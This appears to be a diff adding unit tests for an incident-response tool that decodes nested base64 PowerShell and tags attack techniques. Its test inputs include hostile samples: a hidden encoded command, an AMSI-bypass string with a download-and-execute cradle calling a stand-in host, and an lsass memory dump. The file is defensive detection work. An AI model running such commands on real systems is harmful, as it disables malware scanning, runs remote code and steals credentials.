@@ -1,0 +1,40 @@
+"""Reading scripts and command lines: layers of base64, features, addresses."""
+
+import base64
+
+from ircopilot.analysis.story.scripts import decode_layers, read_script
+
+
+def encoded(text: str, encoding: str = "utf-16-le") -> str:
+    return base64.b64encode(text.encode(encoding)).decode()
+
+
+def test_an_encoded_command_inside_an_encoded_command() -> None:
+    inner = encoded("http://198.51.100.9:443/")
+    outer = encoded(f"$s=[Convert]::FromBase64String('{inner}');$t='/login/get.php'")
+    reading = read_script(f"powershell -NoP -W Hidden -Enc {outer}")
+    assert "http://198.51.100.9:443/" in reading.urls
+    assert reading.server_paths == ("/login/get.php",)
+    assert reading.ips == ("198.51.100.9",)
+
+
+def test_what_is_not_text_is_not_decoded() -> None:
+    assert decode_layers(base64.b64encode(bytes(range(256))).decode()) == []
+    assert decode_layers("A" * (1 << 21)) == []
+
+
+def test_features_carry_their_techniques() -> None:
+    reading = read_script(
+        "[Ref].Assembly.GetType('x').GetField('amsiInitFailed'); IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"
+    )
+    assert {"T1685", "T1105", "T1059.001"} <= set(reading.techniques)
+
+
+def test_naming_lsass_alone_shows_nothing() -> None:
+    assert read_script("tasklist | findstr lsass").techniques == ()
+    assert "T1003.001" in read_script("Get-Process lsass | Out-Minidump").techniques
+
+
+def test_ordinary_commands_say_nothing() -> None:
+    reading = read_script(r"C:\Windows\System32\svchost.exe -k netsvcs -p")
+    assert (reading.features, reading.urls, reading.decoded) == ((), (), "")
